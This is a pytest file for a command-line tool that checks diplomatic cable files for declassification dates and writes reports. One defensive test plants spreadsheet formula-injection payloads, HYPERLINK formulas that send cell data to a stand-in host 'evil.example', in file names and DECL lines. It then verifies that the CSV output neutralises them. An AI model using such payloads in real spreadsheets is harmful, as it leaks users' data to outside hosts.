"""``workbench check`` as a user runs it: formats, filters, output files and misuse."""

import csv
import io
import json
from pathlib import Path

import pytest

from workbench.cli import main

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "cables"  # an empty file
SAMPLES = Path(__file__).resolve().parents[2] / "resources" / "samples"
SAMPLE = Path(__file__).resolve().parents[2] / "resources" / "samples" / "07SEOUL219.txt"


def check(capsys, *args: str) -> tuple[int, str, str]:
    code = main(["check", *args])
    out, err = capsys.readouterr()
    return code, out, err


def test_table_with_summary(capsys):
    code, out, err = check(
        capsys, str(SAMPLES), str(FIXTURES), "--as-of", "2026-11-27", "--jobs", "1"
    )
    # Exit 1: one file could not be read (the report is whole, and stderr says so).
    assert code == 1 and "1 of " in err and "could not be read" in err
    lines = out.splitlines()
    assert lines[0].split()[:4] == ["STATUS", "DUE", "BASIS", "CABLE"]
    seoul = next(line for line in lines if "07SEOUL219" in line)
    assert seoul.split()[:3] == ["due", "2017-01-23", "explicit-date"]
    # The empty fixture is a row with a read-error, and the run went on; its status is its
    # own, never needs-review (newcomer 5, finding 32).
    empty = next(line for line in lines if "empty.txt" in line)
    assert empty.startswith("unreadable ") and "read-error: " in empty
    n = len(list(SAMPLES.glob("*.txt")))  # the README there is not a cable
    # The empty file is no cable, nor one needing review (newcomer 4, finding 9): counted apart.
    assert f"{n + 1} files checked: {n} cables; 1 could not be read" in out
    reviewing = sum(line.startswith("needs-review") for line in lines)
    assert "by status: unclassified" in out and f"needs-review {reviewing}\n" in out
    assert "read-error" not in out.split("by finding")[1]


def test_a_path_that_does_not_exist_is_a_row_and_exit_1(capsys):
    code, out, err = check(capsys, "no-such-archive", str(SAMPLE), "--jobs", "1")
    assert code == 1
    assert "read-error: no-such-archive does not exist" in out
    assert "07SEOUL219" in out  # the run went on
    assert "1 of 2 files could not be read" in err


def test_dash_is_the_cable_on_standard_input(capsys, monkeypatch):
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(SAMPLE.read_bytes())))
    code, out, _ = check(capsys, "-", str(SAMPLE), "--format", "jsonl", "--as-of", "2016-06-01")
    assert code == 0
    first, second = (json.loads(line) for line in out.splitlines())
    assert (first["path"], first["id"], first["status"]) == ("-", "07SEOUL219", "not-due")
    assert first["decl"] == second["decl"] and second["path"] == str(SAMPLE)


def test_jsonl_carries_the_parse_dicts(capsys):
    code, out, _ = check(capsys, str(SAMPLE), "--format", "jsonl", "--as-of", "2016-06-01")
    assert code == 0
    (row,) = [json.loads(line) for line in out.splitlines()]
    assert set(row) >= {"path", "id", "classification", "decl", "due", "basis", "status"}
    assert row["classification"]["text"] == "C O N F I D E N T I A L"
    assert row["decl"]["date"] == "2017-01-23"
    assert (row["status"], row["as_of"]) == ("not-due", "2016-06-01")


def test_json_is_one_array(capsys):
    _, out, _ = check(capsys, str(SAMPLE), str(SAMPLE), "--format", "json", "--jobs", "2")
    rows = json.loads(out)
    assert [r["id"] for r in rows] == ["07SEOUL219", "07SEOUL219"]
    _, out, _ = check(capsys, str(SAMPLE), "--format", "json", "--status", "unclassified")
    assert json.loads(out) == []


def test_csv_and_status_filter(capsys):
    code, out, _ = check(
        capsys, str(SAMPLES), str(FIXTURES), "--format", "csv", "--status", "due,needs-review"
    )
    assert code == 1  # the empty fixture could not be read
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows and {r["status"] for r in rows} <= {"due", "needs-review"}
    seoul = next(r for r in rows if r["id"] == "07SEOUL219")
    assert seoul["classification"] == "CONFIDENTIAL" and seoul["decl"] == "01/23/2017"
    # A records officer's worklist holds cables, not the files that could not be read
    # (newcomer 5, finding 32): those have a status of their own, to list apart.
    assert not any(r["findings"] == "read-error" for r in rows)
    _, out, _ = check(
        capsys, str(FIXTURES), str(SAMPLE), "--format", "csv", "--status", "unreadable"
    )
    (row,) = csv.DictReader(io.StringIO(out))
    assert (row["status"], row["findings"]) == ("unreadable", "read-error")


def test_output_file_is_written_whole(capsys, tmp_path):
    target = tmp_path / "report.jsonl"
    code, out, _ = check(capsys, str(SAMPLE), "--format", "jsonl", "--output", str(target))
    assert code == 0 and out == ""
    assert json.loads(target.read_text())["id"] == "07SEOUL219"
    assert [p.name for p in tmp_path.iterdir()] == ["report.jsonl"]  # no temporary file left


def test_interrupted_run_leaves_the_old_report(capsys, tmp_path, monkeypatch):
    target = tmp_path / "report.csv"
    target.write_text("old report\n")

    def interrupted(*args, **kwargs):
        yield from ()
        raise KeyboardInterrupt

    monkeypatch.setattr("workbench.batch.stream.scan", interrupted)
    code, _, err = check(capsys, str(SAMPLE), "--format", "csv", "--output", str(target))
    assert code == 130 and "interrupted" in err
    assert target.read_text() == "old report\n"
    assert [p.name for p in tmp_path.iterdir()] == ["report.csv"]


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (["--as-of", "27/11/2026"], "YYYY-MM-DD"),
        (["--jobs", "0"], "number of processes"),
        (
            ["--status", "done"],
            "choose from unclassified, declassified, due, not-due, needs-review, unreadable",
        ),
        (["--format", "xml"], "invalid choice"),
        (["--output", "/no/such/folder/report.csv"], "does not exist"),
    ],
)
def test_misuse_exits_2(capsys, args, says):
    try:
        code = main(["check", str(SAMPLE), *args])
    except SystemExit as exc:  # argparse's own usage errors
        code = exc.code
    assert code == 2
    err = capsys.readouterr().err
    assert says in err and "Traceback" not in err


def test_output_format_follows_the_file_s_suffix(capsys, tmp_path):
    for name, first in (("due.csv", "path,"), ("due.jsonl", '{"path":'), ("due.txt", "STATUS")):
        target = tmp_path / name
        code, _, _ = check(capsys, str(SAMPLE), "--output", str(target), "--jobs", "1")
        assert code == 0 and target.read_text().startswith(first), name
    # --format still wins.
    target = tmp_path / "table.csv"
    check(capsys, str(SAMPLE), "--output", str(target), "--format", "table", "--jobs", "1")
    assert target.read_text().startswith("STATUS")


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_csv_cells_are_never_live_formulas(capsys, tmp_path, monkeypatch):
    """Newcomer 5, finding 25: the records officer's CSV is opened in a spreadsheet, and its
    file names and DECL text come from the archive. Each start a spreadsheet runs as a
    formula, in a file name and in the DECL line, comes out as text (the Vaughn index's guard,
    workbench.safeio.spreadsheet). (The reader strips a tab after DECL: and a carriage return
    ends the line, so those two are tried in file names only.)"""
    text = SAMPLE.read_text(encoding="utf-8")
    names = []
    for i, start in enumerate(FORMULA_STARTS):
        name = f"{start}cmd{i}.txt"
        decl = f'{start}HYPERLINK("http://evil.example/?"&A1,"click{i}")'
        (tmp_path / name).write_text(text.replace("DECL: 01/23/2017", f"DECL: {decl}"))
        names.append(name)
    monkeypatch.chdir(tmp_path)
    code, out, err = check(capsys, "--format", "csv", "--jobs", "1", "--", *names)
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out)))[1:]
    assert len(rows) == len(FORMULA_STARTS)
    assert sorted(r[0][1:] for r in rows) == sorted(names)  # each path, behind its apostrophe
    cells = [c for row in rows for c in row]
    for i in range(4):  # the DECL text is in its cell, made text
        assert any(f'HYPERLINK("http://evil.example/?"&A1,"click{i}")' in c for c in cells)
    assert not [c for c in cells if c[:1] in FORMULA_STARTS], cells


def test_the_spreadsheet_guard_is_the_one_the_vaughn_index_uses():
    """One guard for every CSV: the Vaughn index, the case manifest and check's report."""
    from workbench.batch import formats
    from workbench.case import package
    from workbench.export import vaughn
    from workbench.safeio.spreadsheet import inert

    assert vaughn.inert is formats.inert is package.inert is inert
    for start in FORMULA_STARTS:
        assert inert(f"{start}1+1") == f"'{start}1+1"
    assert inert("-") == "-" and inert("07SEOUL219") == "07SEOUL219" and inert("") == ""
